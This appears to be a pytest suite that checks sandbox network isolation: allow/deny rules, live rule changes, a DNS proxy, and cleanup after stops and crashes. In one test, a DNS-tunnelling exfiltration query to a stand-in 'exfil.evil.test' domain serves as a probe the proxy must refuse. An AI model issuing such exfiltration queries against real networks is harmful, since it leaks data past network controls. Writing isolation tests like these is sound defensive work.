"""Sandbox networking end to end: allow/deny matrix (groups, CIDRs, ports, protocols, IPv6),
a rule change in the middle of a session, the DNS proxy honouring the rules, counters, and
cleanup of every per-sandbox kernel object. Test servers live in a test network namespace
and serve made-up `*.test` names from the edge's static DNS table."""

from __future__ import annotations

import os
import re
import signal
import socket
import time

import pytest

from helpers import dsec_processes, find_dsec_bin, stop_quietly, wait_until
from netfixture import NPM, PYPI, PYPI6, TABLE, HostListener, NetUp, TestServers, denied, get, run, second_config, sh

import dsec



@pytest.fixture(scope="module")
def servers():
    s = TestServers().start()
    yield s
    s.stop()


@pytest.fixture(scope="module")
def net_node(servers):
    b = find_dsec_bin()
    if b is None:
        pytest.skip("no dsec binary")
    up = NetUp(b, "net")
    up.start()
    yield up
    assert up.finish() == 0


@pytest.fixture(scope="module")
def nclient(net_node):
    c = net_node.client()
    yield c
    c.close()


def make(nclient, **kw):
    return nclient.run_container(dsec.DSecContainerRunArgs(container_image="busybox", **kw), timeout=60)


def ok(sb, cmd):
    code, out = run(sb, cmd)
    return code == 0 and "reference-solution-42" in out


def test_default_is_loopback_only(nclient):
    sb = make(nclient)
    try:
        assert sb.network()["mode"] == "none"
        code, out = run(sb, "ip -o addr 2>/dev/null || ifconfig -a")
        assert "eth0" not in out
        assert not ok(sb, get(f"http://{PYPI}/"))
    finally:
        stop_quietly(sb)


def test_groups_and_dns_proxy(nclient):
    sb = make(nclient, network_rules={"pypi": True, "npm": False})
    try:
        st = sb.network()
        assert st["mode"] == "allowlist" and st["ipv4"].startswith("10.231.")
        # Allowed group, by name: DNS answers and the address is granted for the TTL.
        assert ok(sb, get("http://pypi.test/"))
        assert ok(sb, get("http://files.pypi.test/"))
        st = sb.network()
        assert any(g["name"] == "pypi.test" and g["address"] == PYPI and 0 < g["expires_in_s"] <= 30 for g in st["dns_grants"]), st
        # Denied group: the proxy refuses the name, and the address is not reachable either.
        before = st["dns_refused"]
        code, out = run(sb, "nslookup npm.test")
        assert code != 0 or "REFUSED" in out.upper() or "can't" in out
        assert not ok(sb, get("http://npm.test/"))
        assert not ok(sb, get(f"http://{NPM}/"))
        # Unknown names (also DNS tunnelling attempts) are refused and counted.
        run(sb, "nslookup aGVsbG8gd29ybGQ.exfil.evil.test")
        after = sb.network()
        assert after["dns_refused"] >= before + 2, after
        # An allowed name on a non-allowed port.
        d0 = denied(sb)
        assert not ok(sb, get("http://pypi.test:8080/"))
        assert denied(sb) > d0
    finally:
        stop_quietly(sb)


MATRIX = [
    # (rules, url-or-cmd, allowed)
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{PYPI}/", True),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{PYPI}:8080/", False),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://{NPM}/", False),
    ([{"cidr": "198.18.7.0/24", "ports": "8000-8100", "protocol": "tcp"}], f"http://{PYPI}:8080/", True),
    ([{"cidr": "198.18.7.0/24", "ports": "8000-8100", "protocol": "tcp"}], f"http://{NPM}/", False),
    ([{"cidr": "198.18.7.0/24", "protocol": "udp"}], f"http://{PYPI}/", False),
    ([{"cidr": "198.18.7.0/24"}], f"http://{NPM}/", True),
    ([{"cidr": "fd42:7::/64", "ports": "80", "protocol": "tcp"}], f"http://[{PYPI6}]/", True),
    ([{"cidr": f"{PYPI}/32", "ports": "80", "protocol": "tcp"}], f"http://[{PYPI6}]/", False),
]


@pytest.mark.parametrize("rules,url,allowed", MATRIX)
def test_cidr_port_protocol_matrix(nclient, rules, url, allowed):
    sb = make(nclient, network={"mode": "allowlist", "rules": rules})
    try:
        d0 = denied(sb)
        assert ok(sb, get(url)) == allowed, (rules, url)
        if not allowed:
            assert denied(sb) > d0, "a denied connection must be counted"
    finally:
        stop_quietly(sb)


def test_icmp_rule(nclient):
    sb = make(nclient, network={"mode": "allowlist", "rules": [{"cidr": f"{PYPI}/32", "protocol": "icmp"}]})
    try:
        assert run(sb, f"ping -c 1 -W 2 {PYPI}")[0] == 0
        assert run(sb, f"ping -c 1 -W 2 {NPM}")[0] != 0
        assert not ok(sb, get(f"http://{PYPI}/"))
    finally:
        stop_quietly(sb)


def test_rule_change_mid_session(nclient):
    sb = make(nclient, network={"mode": "allowlist"})
    try:
        run(sb, "export MARK=kept; cd /tmp")
        assert not ok(sb, get(f"http://{PYPI}:8080/"))
        t0 = time.monotonic()
        st = sb.set_network_rules([{"cidr": f"{PYPI}/32", "ports": "8080", "protocol": "tcp"}])
        assert st["rules"][0]["ports"] == "8080"
        assert ok(sb, get(f"http://{PYPI}:8080/"))
        assert time.monotonic() - t0 < 5
        # Same session: state kept across the change.
        assert run(sb, "echo $MARK $(pwd)")[1].strip() == "kept /tmp"
        # Groups can be switched on live too, then everything off again.
        sb.set_network_rules([], groups={"npm": True})
        assert ok(sb, get("http://npm.test/"))
        assert not ok(sb, get(f"http://{PYPI}:8080/"))
        sb.set_network_rules([], groups={"npm": False})
        assert not ok(sb, get(f"http://{NPM}/"))
        with pytest.raises(dsec.DSecError):
            sb.set_network_rules([{"cidr": "10.0.0.1/8"}])
    finally:
        stop_quietly(sb)


def test_open_mode_still_isolates_node(nclient, net_node):
    sb = make(nclient, network={"mode": "open"})
    other = make(nclient, network={"mode": "open"})
    try:
        assert ok(sb, get(f"http://{NPM}/"))
        # Not the other sandbox, not the host's own addresses: a service listening on every
        # host address (reachable from the host itself) stays closed to the sandbox on the
        # gateway, the test servers' host end and the host's v6 addresses.
        oip = other.network()["ipv4"]
        assert run(sb, f"ping -c 1 -W 1 {oip}")[0] != 0
        assert run(sb, get(f"http://{oip}/"))[0] != 0
        svc = HostListener()
        try:
            with socket.create_connection(("198.18.7.1", svc.port), timeout=2) as c:
                assert b"host-secret-service" in c.recv(100)  # the service is up
            d0 = denied(sb)
            for host in ["10.231.0.1", "198.18.7.1", "[fd42:7::1]"]:
                code, out = run(sb, get(f"http://{host}:{svc.port}/"))
                assert code != 0 and "host-secret-service" not in out, (host, out)
            assert denied(sb) >= d0 + 3
        finally:
            svc.close()
    finally:
        stop_quietly(sb)
        stop_quietly(other)


def test_bad_requests(nclient):
    for kw in [
        {"network_rules": {"nosuchgroup": True}},
        {"network": {"mode": "allowlist", "rules": [{"cidr": "10.0.0.0/33"}]}},
        {"network": {"mode": "none", "rules": [{"cidr": "10.0.0.0/8"}]}},
        {"network": {"mode": "allowlist", "rules": [{"cidr": "10.0.0.0/8", "ports": "1", "protocol": "icmp"}]}},
    ]:
        with pytest.raises(dsec.DSecError):
            make(nclient, **kw)


def _veth_of(key: str) -> str:
    """The host veth the verdict map sends to the sandbox's chain (its own, or a spare's)."""
    text = sh(f"nft list map inet {TABLE} veth_fwd", check=False).stdout
    found = re.findall(r'"([^"]+)" : jump sb_' + key + r'\b', text)
    assert len(found) == 1, text
    return found[0]


def test_cleanup_after_stop(nclient):
    sb = make(nclient, network={"mode": "allowlist"})
    key = sb.id.rsplit("-", 1)[1][-12:]
    veth = _veth_of(key)
    # A spare `dstp<n>` lives in namespace `<table>-pool<n>`; an own veth `dst<key>` in `<table>-<id>`.
    ns = f"{TABLE}-pool{veth[4:]}" if veth.startswith("dstp") else f"{TABLE}-{sb.id}"
    assert os.path.exists(f"/sys/class/net/{veth}")
    assert os.path.exists(f"/run/netns/{ns}")
    assert sh(f"nft list chain inet {TABLE} sb_{key}", check=False).returncode == 0
    sb.stop()
    assert not os.path.exists(f"/sys/class/net/{veth}")
    assert sh(f"nft list chain inet {TABLE} sb_{key}", check=False).returncode != 0
    assert not os.path.exists(f"/run/netns/{ns}")


def test_spares_claimed_and_replaced(nclient, net_node):
    """After the first networked create the edge keeps spare namespaces ready; a create claims
    one (its veth is then the one the verdict map points at) and a replacement is built."""
    first = make(nclient, network={"mode": "allowlist"})
    assert wait_until(lambda: len(net_node.spares().get("veths", [])) >= 2, timeout=20), net_node.spares()
    sb = make(nclient, network={"mode": "allowlist"})
    try:
        veth = _veth_of(sb.id.rsplit("-", 1)[1][-12:])
        assert veth.startswith("dstp"), f"a spare was ready but {veth} was built"
        # The sandbox's address is the one configured in the spare's namespace, and inside
        # the sandbox that address is on its eth0.
        addr = sb.network()["ipv4"]
        assert f"inet {addr}/32" in sh(f"ip -n {TABLE}-pool{veth[4:]} -4 addr show eth0").stdout
        assert addr in sb.run_shell("cat /proc/net/fib_trie").stdout
    finally:
        sb.stop()
        first.stop()


def test_failed_create_leaves_nothing(nclient, net_node):
    """A create that fails after the namespace, chains and limited disk were built (aether
    cannot protect a path that does not exist) rolls all of them back."""
    assert net_node.leftovers() == {}
    with pytest.raises(dsec.DSecError):
        make(nclient, network={"mode": "allowlist", "rules": [{"cidr": f"{PYPI}/32"}]}, disk_limit_mb=32,
             protected_paths=["/no/such/file"])
    assert wait_until(lambda: net_node.leftovers() == {}, timeout=5), net_node.leftovers()
    sbs = os.path.join(net_node.data_dir, "edge", "sandboxes")
    assert not os.path.isdir(sbs) or os.listdir(sbs) == []


BLKIO_CAP = "/sys/fs/cgroup/blkio/blkio.throttle.write_bps_device"


def _cap_of(dev: str) -> str:
    try:
        with open(BLKIO_CAP) as f:
            return next((l.split()[1] for l in f if l.split()[:1] == [dev]), "")
    except OSError:
        return ""


def test_crash_recovery(servers):
    """The edge is SIGKILLed with two sandboxes. One survives and is re-adopted with a working
    network (DNS proxy, grants, rules); the other dies while the edge is down, and the
    restarted edge removes its namespace, veth, chains, loop device, mount and I/O cap."""
    b = find_dsec_bin()
    up = NetUp(b, "netcrash", config=second_config(disk_bps_limit_mb=50), table="dsectest2", veth_prefix="dsu")
    up.start()
    c = up.client()
    try:
        kept = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", network_rules={"pypi": True},
                                                         disk_limit_mb=32), timeout=60)
        lost = c.run_container(dsec.DSecContainerRunArgs(container_image="busybox", network={"mode": "allowlist"},
                                                         disk_limit_mb=32), timeout=60)
        assert ok(kept, get("http://pypi.test/"))
        lost_dir = up.sandbox_dir(lost.id)
        with open(os.path.join(lost_dir, "disk.dev")) as f:
            lost_dev = f.read().strip()
        if os.path.exists(BLKIO_CAP):
            assert _cap_of(lost_dev) == str(50 << 20), "the loop device is capped while the sandbox runs"
        lost_key = lost.id.rsplit("-", 1)[1][-12:]
        kept_key = kept.id.rsplit("-", 1)[1][-12:]
        c.close()
        up.kill()
        # The lost sandbox dies while no edge is running.
        for pid, (_comm, cg) in dsec_processes(lost.id).items():
            try:
                os.kill(pid, signal.SIGKILL)
            except ProcessLookupError:
                pass
        assert wait_until(lambda: not dsec_processes(lost.id), timeout=10)
        up.restart()
        c = up.client()
        # Cleaned: everything of the lost one.
        left = up.leftovers()
        assert not any(lost_key in str(v) for v in left.values()), left
        assert not os.path.exists(lost_dir)
        if os.path.exists(BLKIO_CAP):
            assert _cap_of(lost_dev) in ("", str(50 << 20) if any(lost_dev in l for l in left.get("loops", [])) else ""), \
                "the cap of the lost sandbox's loop device is cleared"
        # Re-adopted: the kept one's network works as before, and its rules still change live.
        kept = c.attach(kept.id)
        assert f"sb_{kept_key}" in left.get("chains", [])
        # (The attached handle replays the trajectory: step 1 is answered from the record.)
        assert ok(kept, get("http://pypi.test/"))
        assert ok(kept, get("http://files.pypi.test/"))
        assert not ok(kept, get(f"http://{NPM}/"))
        kept.set_network_rules([], groups={"npm": True})
        assert ok(kept, get("http://npm.test/"))
        kept.stop()
        assert wait_until(lambda: up.leftovers() == {}, timeout=5), up.leftovers()
    finally:
        c.close()
        assert up.finish() == 0
        sh("nft delete table inet dsectest2", check=False)
        sh("ip link del dsect1", check=False)
